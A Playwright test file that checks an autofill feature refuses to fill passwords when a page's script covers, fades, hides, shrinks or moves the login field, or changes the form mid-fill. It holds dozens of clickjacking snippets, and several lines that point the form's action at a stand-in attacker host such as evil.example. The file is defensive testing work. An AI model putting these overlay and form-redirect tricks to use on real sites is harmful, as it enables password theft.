// Promise 30

import { expect, test } from '@playwright/test'
import { gesture, open, site, values, valuesIn } from './support/filled-page.ts'

/** What a page may do to its login; `password`, `form` and `cover(css)` are there. */
const helpers = `
  const form = document.querySelector('form'), password = document.querySelector('[type=password]')
  const style = (css) => document.head.append(Object.assign(document.createElement('style'), { textContent: css }))
  const cover = (css, name = 'div', into = document.body) => {
    const { left, top, width, height } = password.getBoundingClientRect()
    const over = into.appendChild(document.createElement(name))
    over.style.cssText = 'position: fixed; z-index: 9; background: white; left: ' + left + 'px; top: ' + top + 'px; width: ' + width + 'px; height: ' + height + 'px;' + css
    return over
  }
`

/** Page's trick → why the password is not filled. All are tried with an order, too, that the page's script does not deserve. */
const clickjacking: Record<string, [script: string, refused: string]> = {
  'opacity 0 of the field': ['password.style.opacity = 0', 'translucent'],
  'opacity 0.1 of the field': ['password.style.opacity = 0.1', 'translucent'],
  'opacity of its parent': ['password.parentElement.style.opacity = 0.01', 'translucent'],
  'opacity of the form': ['form.style.opacity = 0.01', 'translucent'],
  'opacity of body': ['document.body.style.opacity = 0.01', 'translucent'],
  'opacity of html': ['document.documentElement.style.opacity = 0', 'translucent'],
  'a little opacity of each around it': ['style("label, form, body { opacity: 0.8 }")', 'translucent'],
  'opacity by an animation': [
    'style("@keyframes a { to { opacity: 0 } } form { animation: a 1ms forwards }"); return new Promise((r) => setTimeout(r, 50))',
    'translucent',
  ],
  'opacity by a filter': ['form.style.filter = "opacity(0.01)"', 'translucent'],
  blur: ['form.style.filter = "blur(40px)"', 'translucent'],
  'a mask': ['form.style.maskImage = "linear-gradient(transparent, transparent)"', 'translucent'],
  'an image for a mask': [
    'form.style.webkitMaskBoxImage = "linear-gradient(transparent, transparent)"',
    'translucent',
  ],
  'a blend with what is below': ['form.style.mixBlendMode = "lighten"', 'translucent'],
  'transparent letters': ['password.style.color = "transparent"', 'translucent'],
  'an overlay over the whole page': ['cover("inset: 0; width: auto; height: auto")', 'covered'],
  'an overlay over the field': ['cover("")', 'covered'],
  'an overlay over its middle': ['cover("transform: scaleX(0.5)")', 'covered'],
  'an overlay over its lower half': ['cover("transform: translateY(50%)")', 'covered'],
  'an overlay over its left half': ['cover("transform: translateX(-50%)")', 'covered'],
  'a half transparent overlay': ['cover("background: rgb(255 255 255 / 0.5)")', 'covered'],
  'an overlay without pointer events': ['cover("pointer-events: none")', 'covered'],
  'an overlay whose pointer events are in transition': [
    'cover("pointer-events: none; transition: all 1000s allow-discrete")',
    'covered',
  ],
  'an overlay whose pointer events are important': [
    'style("#over { pointer-events: none !important }"); cover("").id = "over"',
    'covered',
  ],
  'an overlay whose pointer events are important in its style': [
    'cover("").style.setProperty("pointer-events", "none", "important")',
    'covered',
  ],
  'an overlay whose pointer events are important in a layer': [
    'style("@layer first { #over { pointer-events: none !important } }"); cover("").id = "over"',
    'covered',
  ],
  'an inert overlay': ['cover("").inert = true', 'covered'],
  'an overlay of an image': ['cover("background: url(data:image/svg+xml,<svg/>)")', 'covered'],
  'an overlay of a gradient': ['cover("background: linear-gradient(white, white)")', 'covered'],
  'an overlay of a canvas': ['cover("background: none", "canvas")', 'covered'],
  'an overlay of a frame': ['cover("background: none; border: 0", "iframe")', 'covered'],
  'an overlay of a shape': [
    'cover("background: none").innerHTML = "<svg width=300 height=40 style=\\"pointer-events: none\\"><rect width=300 height=40 fill=white /></svg>"',
    'covered',
  ],
  'an overlay of a thick border': [
    'cover("background: none; box-sizing: border-box; border: 16px solid white")',
    'covered',
  ],
  'an overlay of an inset shadow': [
    'cover("background: none; box-shadow: inset 0 0 0 99px white")',
    'covered',
  ],
  'an overlay by a backdrop filter': ['cover("background: none; backdrop-filter: blur(30px)")', 'covered'],
  'an overlay in a shadow root': [
    'cover("display: contents").attachShadow({ mode: "open" }).innerHTML = "<p style=\\"position: fixed; inset: 0; margin: 0; background: white; pointer-events: none\\"></p>"',
    'covered',
  ],
  'an overlay after the form': [
    'style("form::after { content: \\"\\"; position: fixed; inset: 0; background: white; pointer-events: none }")',
    'covered',
  ],
  'an overlay before the page': [
    'style("body::before { content: \\"\\"; position: fixed; inset: 0; background: white; z-index: 1 }")',
    'covered',
  ],
  'below the background of its form': [
    'form.style.cssText = "position: relative; z-index: 0; background: white"; document.body.style.background = "white"; form.firstElementChild.style.cssText = ""; password.style.cssText = "position: relative; z-index: -1"; form.style.zIndex = "auto"; form.style.position = "static"; document.body.style.cssText = "position: relative; z-index: 0"',
    'covered',
  ],
  'a popover on top': [
    'const over = cover("margin: 0; inset: 0; width: 100vw; height: 100vh"); over.popover = "manual"; over.showPopover()',
    'covered',
  ],
  'a popover that lets clicks through': [
    'const over = cover("margin: 0; inset: 0; width: 100vw; height: 100vh; pointer-events: none"); over.popover = "manual"; over.showPopover()',
    'covered',
  ],
  'the backdrop of a popover elsewhere': [
    'style("::backdrop { background: white }"); const over = cover("inset: auto 0 0 auto; width: 1px; height: 1px"); over.popover = "manual"; over.showPopover()',
    'covered',
  ],
  'a modal dialog on top': ['cover("", "dialog").showModal()', 'covered'],
  'a dialog on top': [
    'cover("inset: 0; width: auto; height: auto; max-width: none; max-height: none", "dialog").show()',
    'covered',
  ],
  'a transition of the page': [
    'style("::view-transition { background: white; pointer-events: none } ::view-transition-group(*) { animation-duration: 1000s }"); return document.startViewTransition(() => {}).ready',
    'covered',
  ],
  'an overlay of an outline': ['cover("background: none; height: 0; outline: 60px solid white")', 'covered'],
  'an overlay of an outline inwards': [
    'cover("background: none; outline: 60px solid white; outline-offset: -60px")',
    'covered',
  ],
  'the shadow of a point': [
    'cover("inset: 0 auto auto 0; width: 1px; height: 1px; box-shadow: 0 0 0 2000px white")',
    'covered',
  ],
  'faint shadows one above the other': [
    'cover("margin-left: -2000px; box-shadow: " + Array(9).fill("2000px 0 rgb(255 255 255 / 0.2)"))',
    'covered',
  ],
  'a dropped shadow': ['cover("margin-left: -2000px; filter: drop-shadow(2000px 0 0 white)")', 'covered'],
  'a reflection': ['cover("margin-left: -2000px; width: 2000px; -webkit-box-reflect: right 0px")', 'covered'],
  'an image for a border': [
    'cover("background: none; border: 1px solid; border-image: linear-gradient(white, white) 1 / 40px")',
    'covered',
  ],
  'an image for a border, outwards': [
    'cover("inset: 0 auto auto 0; width: 1px; border: 1px solid; border-image: linear-gradient(white, white) 1 fill / 1px / 2000px")',
    'covered',
  ],
  'a rule between columns': [
    'cover("background: none; columns: 2; column-gap: 300px; column-rule: 300px solid white").innerHTML = "<p>a<p>b"',
    'covered',
  ],
  'a part of another field': [
    'style("#over::file-selector-button { position: fixed; inset: 0; background: white; pointer-events: none }"); const over = cover("inset: 0 auto auto 0; width: 1px; height: 1px", "input"); over.type = "file"; over.id = "over"',
    'covered',
  ],
  'what a fold holds': [
    'style("#over::details-content { position: fixed; inset: 0; background: white; pointer-events: none }"); const over = cover("inset: 0 auto auto 0; width: 1px; height: 1px", "details"); over.open = true; over.id = "over"',
    'covered',
  ],
  'a button that scrolls something': [
    'style("#over::scroll-button(down) { content: counter(a); position: fixed; inset: 0; background: white; pointer-events: none }"); const over = cover("inset: 0 auto auto 0; width: 1px; height: 1px; overflow: scroll"); over.id = "over"; over.innerHTML = "<p style=height:900px>"',
    'covered',
  ],
  'the icon of a list': [
    'style("#over { appearance: base-select } #over::picker-icon { content: counter(a); position: fixed; inset: 0; background: white; pointer-events: none }"); cover("inset: 0 auto auto 0; width: 1px; height: 1px", "select").id = "over"',
    'covered',
  ],
  'cut away by its shape': ['password.style.clipPath = "inset(49%)"', 'covered'],
  'cut away around it': ['form.style.cssText = "height: 20px; overflow: hidden"', 'covered'],
}

const hidden: Record<string, [script: string, refused: string]> = {
  'display none': ['password.style.display = "none"', 'hidden'],
  'hidden by its parent': ['password.parentElement.hidden = true', 'hidden'],
  invisible: ['form.style.visibility = "hidden"', 'hidden'],
  'content that is skipped': ['form.style.contentVisibility = "hidden"', 'hidden'],
  'in a closed fold': [
    'const fold = document.body.appendChild(document.createElement("details")); fold.append(form)',
    'hidden',
  ],
  'of no size': ['password.style.cssText = "width: 0; height: 0; padding: 0; border: 0"', 'too_small'],
  'of one pixel': ['password.style.cssText = "width: 1px; height: 1px; padding: 0; border: 0"', 'too_small'],
  'scaled to nothing': ['form.style.transform = "scale(0.01)"', 'too_small'],
  'turned away': ['form.style.transform = "rotateX(90deg)"', 'too_small'],
  'without letters': ['password.style.fontSize = "0px"', 'too_small'],
  'left of the page': ['form.style.cssText = "position: absolute; left: -9999px"', 'off_screen'],
  'above the page': ['form.style.cssText = "position: absolute; top: -9999px"', 'off_screen'],
  'moved away': ['form.style.transform = "translateX(-200vw)"', 'off_screen'],
  'fixed below the screen': ['form.style.cssText = "position: fixed; top: 200vh"', 'off_screen'],
  disabled: ['password.disabled = true', 'disabled'],
  'disabled by its fieldset': [
    'const set = document.createElement("fieldset"); set.append(...form.childNodes); set.disabled = true; form.append(set)',
    'disabled',
  ],
  'read only': ['password.readOnly = true', 'disabled'],
  inert: ['form.inert = true', 'disabled'],
}

for (const [kind, variants] of Object.entries({ clickjacking, hidden })) {
  test(`${Object.keys(variants).length} variants of ${kind}: the password is not filled, whatever is ordered`, async ({
    page,
  }) => {
    for (const [name, [script, refused]] of Object.entries(variants)) {
      await open(page, 'login.html')
      await page.evaluate(`(() => { ${helpers} ${script} })()`)
      const { forms, fill } = await gesture(page)
      expect.soft(forms[0]?.visible['current-password'], name).toBe(undefined)
      expect.soft(forms[0]?.refused, name).toBe(refused)
      expect.soft((await fill({ current: values.current })).refused, name).toBe(refused)
      expect.soft((await valuesIn(page)).includes(values.current), name).toBe(false)
    }
  })
}

test('a page that changes while it is filled gets nothing more', async ({ page }) => {
  const variants: Record<string, [script: string, refused: string]> = {
    'covers it when it gets the focus': ['password.addEventListener("focus", () => cover(""))', 'covered'],
    'hides it upon a key': [
      'password.addEventListener("keydown", () => { form.style.opacity = 0 })',
      'translucent',
    ],
    'moves it when the name is written': [
      'form.addEventListener("input", () => { password.style.cssText = "position: fixed; left: -999px" })',
      'off_screen',
    ],
    'takes it out when it gets the focus': [
      'password.addEventListener("focus", () => password.remove())',
      'changed',
    ],
    'posts elsewhere when the name is written': [
      'form.addEventListener("input", () => { form.action = "https://evil.example" })',
      'changed',
    ],
    'draws another form when the name is written': [
      'form.addEventListener("input", () => { form.innerHTML = "<input type=password autocomplete=new-password>" })',
      'changed',
    ],
  }
  for (const [name, [script, refused]] of Object.entries(variants)) {
    await open(page, 'login.html')
    await page.evaluate(`(() => { ${helpers} ${script} })()`)
    expect.soft((await (await gesture(page)).fill()).refused, name).toBe(refused)
    expect.soft((await valuesIn(page)).includes(values.current), name).toBe(false)
  }
})

test('a page that changed between what was found and the order is judged again', async ({ page }) => {
  const variants: Record<string, [script: string, refused: string]> = {
    'covers it': ['cover("")', 'covered'],
    'posts elsewhere': ['form.action = "https://evil.example"', 'posts_elsewhere'],
    'another form': [
      'form.outerHTML = "<form><h1>Change password</h1><input type=password><input type=password><input type=password></form>"',
      'changed',
    ],
    'no form': ['form.remove()', 'changed'],
  }
  for (const [name, [script, refused]] of Object.entries(variants)) {
    await open(page, 'login.html')
    const { fill } = await gesture(page)
    await page.evaluate(`(() => { ${helpers} ${script} })()`)
    expect.soft(await fill({ current: values.current }), name).toEqual({ fields: [], refused })
    expect.soft((await valuesIn(page)).includes(values.current), name).toBe(false)
  }
  await open(page, 'login.html')
  const { fill } = await gesture(page)
  await page.evaluate(() => {
    const form = document.querySelector('form') as HTMLFormElement
    form.replaceWith(form.cloneNode(true))
  })
  expect(await fill(), 'the same form of new elements').toEqual({
    fields: ['username', 'current-password'],
    refused: null,
  })
})

test('a form that posts to another origin or to http is told with its origin and not filled', async ({
  page,
}) => {
  const variants: Record<string, [script: string, postsTo: string]> = {
    'its action': ['form.setAttribute("action", "https://evil.example/take")', 'https://evil.example'],
    'http of the same host': [
      `form.setAttribute("action", "http://shop.example/login")`,
      'http://shop.example',
    ],
    'another port': [`form.setAttribute("action", "${site}:8443/login")`, `${site}:8443`],
    'another scheme': ['form.setAttribute("action", "mailto:eve@evil.example")', 'mailto:'],
    'its button': [
      'form.querySelector("button").setAttribute("formaction", "//evil.example")',
      'https://evil.example',
    ],
    'a button outside of it': [
      'document.body.insertAdjacentHTML("beforeend", "<button form=login formaction=https://evil.example>Go</button>")',
      'https://evil.example',
    ],
    'the base of the page': [
      'document.head.insertAdjacentHTML("beforeend", "<base href=https://evil.example>"); form.setAttribute("action", "login")',
      'https://evil.example',
    ],
    'a field named action': [
      'form.setAttribute("action", "https://evil.example/take"); form.insertAdjacentHTML("beforeend", "<input type=hidden name=action>")',
      'https://evil.example',
    ],
  }
  for (const [name, [script, postsTo]] of Object.entries(variants)) {
    await open(page, 'login.html')
    await page.evaluate(`(() => { ${helpers} ${script} })()`)
    const { forms, fill } = await gesture(page)
    expect.soft(forms[0]?.postsTo, name).toBe(postsTo)
    expect.soft(await fill(), name).toEqual({ fields: [], refused: 'posts_elsewhere' })
  }
})

test('what good pages do to their fields does not stop a fill', async ({ page }) => {
  for (const [name, script] of Object.entries({
    'an icon at each end':
      'cover("width: 30px", "button"); cover("width: 30px; margin-left: 210px", "button")',
    'a label that floats over it':
      'const label = cover("background: none; pointer-events: none", "label"); label.textContent = "Password"',
    'a frame drawn around it':
      'cover("background: none; pointer-events: none; border: 1px solid gray", "fieldset")',
    'a ring drawn by its label':
      'style("label { position: relative; background: white } label::after { content: \\"\\"; position: absolute; inset: 0; border: 1px solid; pointer-events: none }")',
    'the colours of a dark mode': 'document.documentElement.style.filter = "invert(1) hue-rotate(180deg)"',
    'a hidden field named action':
      'form.insertAdjacentHTML("beforeend", "<input type=hidden name=action value=login>")',
    'an action of its own': 'form.action = "/session"',
    'an action that is a script': 'form.setAttribute("action", "javascript:void(0)")',
    'a dialog of its own before an inert page':
      'const dialog = cover("inset: 0; width: auto; height: auto"); const main = document.createElement("main"); main.style.cssText = "position: fixed; inset: 0; background: white"; main.inert = true; document.body.prepend(main); dialog.append(form)',
    'a modal dialog around it':
      'const dialog = document.createElement("dialog"); document.body.append(dialog); dialog.append(form); dialog.showModal()',
    'a menu that faded out over it':
      'const menu = cover("opacity: 0; pointer-events: none"); menu.innerHTML = "<p style=\\"background: white; height: 100%; margin: 0\\">Menu</p>"',
    'an invisible field for files over all':
      'cover("inset: 0; width: auto; height: auto; opacity: 0", "input").type = "file"',
  })) {
    await open(page, 'login.html')
    await page.evaluate(`(() => { ${helpers} ${script} })()`)
    expect
      .soft(await (await gesture(page)).fill(), name)
      .toEqual({ fields: ['username', 'current-password'], refused: null })
  }
})

/** Fields in the form, and images in the page, named like all properties that the form and the document have. */
const hideProperties = `
  const namesOf = (each) => each ? [...Object.getOwnPropertyNames(each), ...namesOf(Object.getPrototypeOf(each))] : []
  const [ofForm, ofDocument] = [namesOf(form), namesOf(document)]
  for (const name of ofForm) HTMLElement.prototype.append.call(form, Object.assign(document.createElement('input'), { type: 'hidden', name }))
  const images = ofDocument.map((name) => Object.assign(document.createElement('img'), { name }))
  document.body.append(...images)
`

test('names of fields and images that hide what forms and documents have stop no fill and let none through', async ({
  page,
}) => {
  const variants: Record<string, [script: string, refused: string | null]> = {
    'nothing else': ['', null],
    'another address': ['form.setAttribute("action", "https://evil.example")', 'posts_elsewhere'],
    'an inert form': ['form.setAttribute("inert", "")', 'disabled'],
    'an overlay': ['cover("")', 'covered'],
    'an overlay without pointer events': ['cover("pointer-events: none")', 'covered'],
    'a faint form': ['form.setAttribute("style", "opacity: 0.01")', 'translucent'],
    'below the form': [
      'cover("pointer-events: none; z-index: auto"); password.style.cssText = "position: relative; z-index: -1"',
      'covered',
    ],
  }
  for (const [name, [script, refused]] of Object.entries(variants)) {
    await open(page, 'login.html')
    await page.evaluate(`(() => { ${helpers} ${script}; ${hideProperties} })()`)
    expect
      .soft(await page.evaluate('document.forms === undefined || !document.forms.length'), name)
      .toBe(true)
    const { fill } = await gesture(page)
    expect.soft((await fill({ current: values.current })).refused, name).toBe(refused)
  }
})
